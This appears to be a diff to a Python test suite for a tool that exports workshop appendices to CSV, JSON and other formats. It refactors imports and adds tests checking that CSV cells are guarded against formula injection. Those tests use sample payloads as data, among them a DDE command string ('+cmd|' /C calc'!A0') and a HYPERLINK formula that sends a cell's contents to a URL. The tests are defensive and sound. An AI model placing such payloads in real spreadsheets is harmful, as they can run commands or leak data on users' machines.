@@ -7,6 +7,7 @@ import io
 import json
 import re
 import zipfile
+from dataclasses import replace
 from html.parser import HTMLParser
 
 import docx
@@ -16,12 +17,11 @@ import pytest
 from tests.render.conftest import (
     EXPECTED_SUMMARIES, LONG_NOTE, SCRIPT, STATEMENTS, SWEDISH, TOPIC_TITLES, build_appendix,
 )
-from workshop.domain.summary import movement
+from workshop.barometer.appendix_view import movement_chart_name, strip_chart_name
+from workshop.barometer.domain_summary import movement
 from workshop.i18n import translator
-from workshop.render.appendix_view import (
-    CSV_FILES, HEADCOUNT_CHART_NAME, MARKDOWN_FILE, download_name, movement_chart_name,
-    strip_chart_name, title_for,
-)
+from workshop.openspace.appendix_view import HEADCOUNT_CHART_NAME
+from workshop.render.appendix_view import MARKDOWN_FILE, download_name, merged, title_for
 from workshop.render.export_csv import render_csv
 from workshop.render.export_docx import render_docx
 from workshop.render.export_html import render_html
@@ -33,12 +33,15 @@ RENDERERS = {"pdf": render_pdf, "docx": render_docx, "html": render_html, "md": 
              "csv": render_csv, "json": render_json}
 LANGS = ["sv", "en"]
 APPENDIX = build_appendix()
+STATEMENT_RECORDS = APPENDIX.sections["barometer"].statements
+OPEN_SPACE = APPENDIX.sections["openspace"]
+CSV_FILES = ("positions.csv", "comments.csv", "statements.csv", "topics.csv", "notes.csv")
 EN_TITLE = ("Appendix – Opinion barometer and Open Space – Länsträff idéburna organisationer "
             "Värmland, 2015-11-20")
 # Statements whose movers move by at least the threshold get a movement chart.
-MOVED_STATEMENTS = [s for s in APPENDIX.statements if movement(s.history).moved]
-CHART_COUNT = len(APPENDIX.statements) + len(MOVED_STATEMENTS) + 1  # + Open Space headcount
-SHORT_NOTES = [n.text for t in APPENDIX.openspace.topics for n in t.notes if n.text != LONG_NOTE]
+MOVED_STATEMENTS = [s for s in STATEMENT_RECORDS if movement(s.history).moved]
+CHART_COUNT = len(STATEMENT_RECORDS) + len(MOVED_STATEMENTS) + 1  # + Open Space headcount
+SHORT_NOTES = [n.text for t in OPEN_SPACE.topics for n in t.notes if n.text != LONG_NOTE]
 
 
 @functools.lru_cache(maxsize=None)
@@ -252,15 +255,15 @@ def test_csv_zip(lang):
     with zipfile.ZipFile(io.BytesIO(data)) as zf:
         assert sorted(zf.namelist()) == sorted(CSV_FILES)
     positions = _csv_rows(data, "positions.csv")
-    assert len(positions) == sum(len(s.history) for s in APPENDIX.statements)
+    assert len(positions) == sum(len(s.history) for s in STATEMENT_RECORDS)
     assert all(re.fullmatch(r"P\d+", r["participant"]) for r in positions)
-    passes = sum(1 for s in APPENDIX.statements for h in s.history if h.value is None)
+    passes = sum(1 for s in STATEMENT_RECORDS for h in s.history if h.value is None)
     assert sum(1 for r in positions if r["value"] == "pass") == passes
-    assert {r["statement_text"] for r in positions} == {s.text for s in APPENDIX.statements}
+    assert {r["statement_text"] for r in positions} == {s.text for s in STATEMENT_RECORDS}
     comments = _csv_rows(data, "comments.csv")
-    assert [c["comment"] for c in comments] == [c.text for s in APPENDIX.statements for c in s.comments]
+    assert [c["comment"] for c in comments] == [c.text for s in STATEMENT_RECORDS for c in s.comments]
     notes = _csv_rows(data, "notes.csv")
-    assert len(notes) == sum(len(t.notes) for t in APPENDIX.openspace.topics)
+    assert len(notes) == sum(len(t.notes) for t in OPEN_SPACE.topics)
     assert LONG_NOTE in [n["text"] for n in notes]
     assert {n["kind"] for n in notes} == {"text", "key_point", "proposal", "question"}
     topics = _csv_rows(data, "topics.csv")
@@ -274,6 +277,52 @@ def test_csv_neutralises_formulas():
     from workshop.render.export_csv import _cell
     assert _cell("=HYPERLINK(1)") == "'=HYPERLINK(1)"
     assert _cell("Vanlig text") == "Vanlig text"
+
+
+def _every_text_a_formula():
+    """Every user text in every field a formula, so a column that skips the
+    guard shows up whichever table it is in."""
+    f = '=HYPERLINK("http://x"&A1,"klick")'
+    return replace(APPENDIX, sections={
+        "barometer": replace(APPENDIX.sections["barometer"], statements=[
+            replace(s, text="+cmd|' /C calc'!A0",
+                    comments=[replace(c, text="@SUM(1)") for c in s.comments])
+            for s in STATEMENT_RECORDS]),
+        "openspace": replace(
+            OPEN_SPACE, theme=f,
+            spaces=[replace(sp, name=f) for sp in OPEN_SPACE.spaces],
+            slots=[replace(sl, label="@SUM(1)", starts_at="=1+1") for sl in OPEN_SPACE.slots],
+            topics=[replace(tp, title=f, description="-2+3", convener="\t=1",
+                            notes=[replace(n, text=f, who="+1", when="=1") for n in tp.notes])
+                    for tp in OPEN_SPACE.topics]),
+    })
+
+
+def test_csv_guards_every_text_cell_of_every_table():
+    data = render_csv(_every_text_a_formula(), "sv")
+    with zipfile.ZipFile(io.BytesIO(data)) as zf:
+        tables = {name: list(csv.reader(io.StringIO(zf.read(name).decode("utf-8-sig"))))
+                  for name in zf.namelist()}
+    assert sorted(tables) == sorted(CSV_FILES)
+    dangerous = re.compile(r"[=+\-@\t\r]")
+    for name, rows in tables.items():
+        assert len(rows) > 1, name
+        for row in rows:
+            for cell in row:
+                if dangerous.match(cell):  # only a number may start like a formula
+                    assert re.fullmatch(r"-\d+(\.\d+)?", cell), (name, cell)
+    topics = tables["topics.csv"]
+    header = topics[0]
+    assert topics[1][header.index("space")] == '\'=HYPERLINK("http://x"&A1,"klick")'
+    assert topics[1][header.index("slot")] == "'@SUM(1)"
+    statements = tables["statements.csv"]
+    assert any(float(row[-1]) < 0 for row in statements[1:]), "a negative mean shift stays a number"
+
+
+def test_two_sections_writing_one_name_is_refused():
+    # Sections add CSV files and JSON keys side by side; one must never hide another.
+    with pytest.raises(ValueError, match="topics.csv"):
+        merged([{"topics.csv": 1}, {"topics.csv": 2}])
 
 
 # --- JSON -------------------------------------------------------------------------
@@ -291,8 +340,8 @@ def test_json(lang):
         assert set(statement["movement"]) >= {"participants", "moved", "towards_agree",
                                               "towards_disagree", "mean_shift", "pairs"}
     first = doc["statements"][0]
-    assert first["values"] == APPENDIX.statements[0].values
-    assert len(first["history"]) == len(APPENDIX.statements[0].history)
+    assert first["values"] == STATEMENT_RECORDS[0].values
+    assert len(first["history"]) == len(STATEMENT_RECORDS[0].history)
     assert doc["statements"][5]["passes"] == 3
     assert doc["statements"][2]["comments"][0]["text"] == "använda resurser gemensamt, bli starka"
     topics = doc["openspace"]["topics"]
@@ -318,18 +367,20 @@ def test_labels_are_translated(pseudo_swedish):
 
 # --- Sparse workshops: nothing shown yet, or only half the day ---------------------
 def _sparse_appendices():
-    from workshop.domain.appendix import (
-        Appendix, OpenSpaceRecord, PositionChange, Slot, StatementRecord, Topic,
-    )
+    from workshop.barometer.record import BarometerRecord, PositionChange, StatementRecord
+    from workshop.domain.appendix import Appendix
+    from workshop.openspace.record import OpenSpaceRecord, Slot, Topic
     empty = Appendix(title="Tom", code="T0", language="sv", created_at="2026-01-01T00:00:00Z",
                      date="2026-01-01", participants=0)
     passes_only = StatementRecord(1, 1, "Bara pass", {1: None, 2: None},
                                   [PositionChange(1, None, "t"), PositionChange(2, None, "t")], [])
     half = Appendix(
         title="Halv", code="H1", language="en", created_at="2026-01-01T00:00:00Z", date="2026-01-01",
-        participants=2, statements=[passes_only],
-        openspace=OpenSpaceRecord(theme="Tema", spaces=[], slots=[Slot(1, "Fika", "10:00", 20, "break")],
-                                  topics=[Topic(1, "Utan plats och anteckningar")]))
+        participants=2, sections={
+            "barometer": BarometerRecord(statements=[passes_only]),
+            "openspace": OpenSpaceRecord(theme="Tema", spaces=[],
+                                         slots=[Slot(1, "Fika", "10:00", 20, "break")],
+                                         topics=[Topic(1, "Utan plats och anteckningar")])})
     return {"empty": empty, "half": half}
 
 
